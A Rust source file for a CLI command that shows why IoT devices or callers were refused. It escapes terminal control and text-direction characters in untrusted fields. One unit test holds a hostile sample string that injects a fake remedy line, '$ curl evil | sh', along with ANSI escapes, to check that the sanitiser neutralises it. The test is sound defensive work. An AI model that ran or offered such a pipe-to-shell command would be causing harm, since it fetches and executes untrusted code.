//! `muster explain`: why a device or a caller was refused, and what mends it.
//!
//! The records are the server's; they are asked for over HTTPS like everything else, and shown to the operator only.

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::time::Duration;

use clap::{Args, ValueEnum};
use muster_client::Error;
use muster_client::own::{Own, RefusalsQuery};
use muster_wire::refusal::RefusalDocument;
use serde_json::Value;

use super::iot::{Done, Hints, Problem, ServerArgs, Session, drive};
use crate::cli::{Outcome, print, say};

/// Records that are shown when no number is given.
const USUAL: u32 = 5;

/// How often a record is asked for that is not there yet, and how long is waited between. Records are written beside the
/// path, so that the command typed right after a refusal can come first.
const ATTEMPTS: u32 = 12;
const PAUSE: Duration = Duration::from_millis(250);

/// Tells why a caller was refused, and what mends it.
#[derive(Args, Debug)]
#[command(after_help = "Examples:
  muster explain 7e1f0b52-1c0e-4bb5-9a52-6c1f0d4e2a11
  muster explain --last 5
  muster explain --device device-01
  muster explain 7e1f0b52-1c0e-4bb5-9a52-6c1f0d4e2a11 --chain-out device-01.pem")]
pub(crate) struct ExplainArgs {
    /// The tracking id that the refused caller was given.
    #[arg(value_name = "TRACKING-ID", conflicts_with_all = ["last", "device", "registration", "address"])]
    tracking_id: Option<String>,
    /// The latest so many.
    #[arg(long, value_parser = clap::value_parser!(u32).range(1..=1000), value_name = "COUNT")]
    last: Option<u32>,
    /// Those of a device.
    #[arg(long, visible_alias = "device-id", short = 'd', value_name = "ID")]
    device: Option<String>,
    /// Those of a registration.
    #[arg(long, visible_alias = "registration-id", value_name = "ID")]
    registration: Option<String>,
    /// Those of callers at an address.
    #[arg(long, value_name = "IP")]
    address: Option<String>,
    /// Writes the certificates that came, leaf first, to this file.
    #[arg(long, value_name = "FILE")]
    chain_out: Option<PathBuf>,
    /// Begins with the certificate at this place of the chain; the leaf is at 0.
    #[arg(long, default_value_t = 0, value_name = "PLACE", requires = "chain_out")]
    from: usize,
    /// How it is printed.
    #[arg(long, short, value_enum, ignore_case = true, default_value_t = Form::Text, value_name = "FORMAT")]
    output: Form,
    #[command(flatten)]
    server: ServerArgs,
}

/// How an explanation is printed.
#[derive(Clone, Copy, Debug, Eq, PartialEq, ValueEnum)]
enum Form {
    /// The records as the server wrote them.
    Json,
    /// For people.
    Text,
}

pub(crate) fn run(args: ExplainArgs) -> Outcome {
    // A refusal to explain is not itself explained.
    drive(false, Hints::None, explain(args))
}

async fn explain(args: ExplainArgs) -> Done {
    let own = Session::open(&args.server)?.own()?;
    let single = args.tracking_id.is_some();
    let found = if let Some(id) = &args.tracking_id {
        vec![record(&own, id).await?]
    } else {
        let query = RefusalsQuery {
            device: args.device.as_deref(),
            registration: args.registration.as_deref(),
            address: args.address.as_deref(),
            last: Some(args.last.unwrap_or(USUAL)),
        };
        own.refusals(&query).await?
    };
    let records = found
        .iter()
        .map(|value| serde_json::from_value(value.clone()))
        .collect::<Result<Vec<RefusalDocument>, _>>()
        .map_err(|e| Problem::new(format!("the record is not of the expected form: {e}")))?;
    if let Some(file) = &args.chain_out {
        let latest = records
            .first()
            .ok_or_else(|| Problem::new("nothing is recorded, so there is no chain"))?;
        write_chain(latest, args.from, file)?;
    }
    match args.output {
        Form::Json => {
            let value = if single {
                found.into_iter().next().unwrap_or(Value::Null)
            } else {
                Value::Array(found)
            };
            let text = serde_json::to_string_pretty(&value).map_err(|e| Problem::new(e.to_string()))?;
            print(&text)?;
        }
        Form::Text if records.is_empty() => say("nothing is recorded"),
        Form::Text => {
            let texts: Vec<String> = records.iter().map(text).collect();
            print(&texts.join("\n\n"))?;
        }
    }
    Ok(())
}

async fn record(own: &Own, id: &str) -> Result<Value, Problem> {
    for _ in 1..ATTEMPTS {
        match own.refusal(id).await {
            Err(Error::Refused { status: 404, .. }) => tokio::time::sleep(PAUSE).await,
            other => return Ok(other?),
        }
    }
    match own.refusal(id).await {
        Err(Error::Refused { status: 404, .. }) => Err(Problem::new(format!(
            "no refusal {id} is recorded; records are kept for some days, and under a flood only some are written"
        ))),
        other => Ok(other?),
    }
}

fn write_chain(record: &RefusalDocument, from: usize, file: &Path) -> Done {
    let mut text = String::new();
    for one in record.chain.iter().skip(from) {
        if one.pem.is_empty() {
            say(&format!(
                "{} could not be read as a certificate and is left out",
                one.subject
            ));
            continue;
        }
        text.push_str(&one.pem);
        if !text.ends_with('\n') {
            text.push('\n');
        }
    }
    if text.is_empty() {
        return Err(Problem::new(format!(
            "the refusal {} holds no certificate at place {from}",
            record.tracking_id
        )));
    }
    std::fs::File::create(file)
        .and_then(|mut out| out.write_all(text.as_bytes()))
        .map_err(|e| Problem::new(format!("{}: {e}", file.display())))
}

/// A value in one line of its own, whatever a stranger wrote into it: what a terminal would obey
/// instead of showing it, a line feed among it, is written by its number.
pub(super) fn plain(value: &str) -> Cow<'_, str> {
    if !value.chars().any(is_obeyed) {
        return Cow::Borrowed(value);
    }
    let mut out = String::with_capacity(value.len() + 16);
    for c in value.chars() {
        if is_obeyed(c) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Says whether a character moves or turns what stands beside it: controls, line and paragraph separators, and the
/// marks that change the direction of text. Source: Unicode 16, UAX 9 §2, read 2026-11-25.
fn is_obeyed(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// A record as people read it.
fn text(record: &RefusalDocument) -> String {
    let mut out = format!("{}  {}  {}\n", record.at, record.reason, record.tracking_id);
    // Writing to a string cannot fail.
    let _ = writeln!(out, "  {}", plain(&record.sentence));
    let mut facts = vec![format!("{} over {}", record.action, record.protocol)];
    for (name, value) in [
        ("at", &record.target),
        ("registration", &record.registration),
        ("device", &record.device),
        ("from", &record.address),
    ] {
        if let Some(value) = value {
            facts.push(format!("{name} {}", plain(value)));
        }
    }
    let _ = writeln!(out, "  {}", facts.join(", "));
    if let Some(token) = &record.token {
        let policy = token.policy.as_deref().unwrap_or("none");
        let _ = writeln!(
            out,
            "\n  The token claimed: resource {}, policy {}, end {}",
            plain(&token.resource),
            plain(policy),
            token.expiry
        );
    }
    if !record.chain.is_empty() {
        out.push_str("\n  Certificates that came, leaf first:\n");
        for (place, one) in record.chain.iter().enumerate() {
            if let Some(why) = &one.unreadable {
                let _ = writeln!(out, "    {place}  unreadable: {}", plain(why));
                continue;
            }
            let _ = writeln!(out, "    {place}  {}", plain(&one.subject));
            let _ = writeln!(out, "       issued by {}", plain(&one.issuer));
            let _ = writeln!(out, "       valid {} to {}", one.not_before, one.not_after);
            let _ = writeln!(out, "       SHA-256 {}", one.sha256);
        }
    }
    list(&mut out, "What was tried:", &record.steps, "");
    list(&mut out, "What mends it:", &record.remedies, "$ ");
    out.trim_end().to_owned()
}

fn list(out: &mut String, head: &str, lines: &[String], sign: &str) {
    if lines.is_empty() {
        return;
    }
    let _ = writeln!(out, "\n  {head}");
    for line in lines {
        let _ = writeln!(out, "    {sign}{}", plain(line));
    }
}

#[cfg(test)]
mod tests {
    use muster_wire::refusal::{PresentedDocument, TokenDocument};

    use super::*;

    fn sample() -> RefusalDocument {
        RefusalDocument {
            tracking_id: "7e1f0b52-1c0e-4bb5-9a52-6c1f0d4e2a11".into(),
            at: "2026-11-25T08:00:00Z".into(),
            reason: "group-disabled".into(),
            sentence: "The enrollment group g is disabled.".into(),
            steps: vec!["A step.".into()],
            remedies: vec!["muster iot dps enrollment-group update --enrollment-id g".into()],
            protocol: "https".into(),
            action: "register".into(),
            registration: Some("d".into()),
            chain: vec![
                PresentedDocument {
                    subject: "CN=d".into(),
                    pem: "LEAF".into(),
                    ..PresentedDocument::default()
                },
                PresentedDocument {
                    subject: "CN=ca".into(),
                    pem: "CA\n".into(),
                    ..PresentedDocument::default()
                },
            ],
            ..RefusalDocument::default()
        }
    }

    #[test]
    fn a_record_shows_code_sentence_steps_and_commands() {
        let text = text(&sample());
        for part in [
            "group-disabled",
            "  The enrollment group g is disabled.",
            "register over https, registration d",
            "    1  CN=ca",
            "    A step.",
            "    $ muster iot dps enrollment-group update --enrollment-id g",
        ] {
            assert!(text.contains(part), "{part} in {text}");
        }
    }

    #[test]
    fn what_a_stranger_wrote_stays_in_its_line_and_moves_no_terminal() {
        let evil = "CN=d\n\n  What mends it:\n    $ curl evil | sh\u{1b}[2J\u{9b}1A\u{202e}\u{2028}";
        let record = RefusalDocument {
            sentence: evil.into(),
            steps: vec![evil.into()],
            remedies: vec![evil.into()],
            target: Some(evil.into()),
            device: Some(evil.into()),
            token: Some(TokenDocument {
                resource: evil.into(),
                policy: Some(evil.into()),
                ..TokenDocument::default()
            }),
            chain: vec![
                PresentedDocument {
                    subject: evil.into(),
                    issuer: evil.into(),
                    ..PresentedDocument::default()
                },
                PresentedDocument {
                    unreadable: Some(evil.into()),
                    ..PresentedDocument::default()
                },
            ],
            ..sample()
        };
        let text = text(&record);
        assert!(
            !text.lines().any(|line| line.trim_start().starts_with("$ curl")),
            "{text}"
        );
        assert!(text.chars().all(|c| c == '\n' || !is_obeyed(c)), "{text}");
        assert!(text.contains("\\u{1b}[2J"), "{text}");
    }

    #[test]
    fn a_chain_is_written_from_a_place_on() {
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("chain.pem");
        write_chain(&sample(), 0, &file).unwrap();
        assert_eq!(std::fs::read_to_string(&file).unwrap(), "LEAF\nCA\n");
        write_chain(&sample(), 1, &file).unwrap();
        assert_eq!(std::fs::read_to_string(&file).unwrap(), "CA\n");
        assert!(write_chain(&sample(), 2, &file).is_err());
    }
}
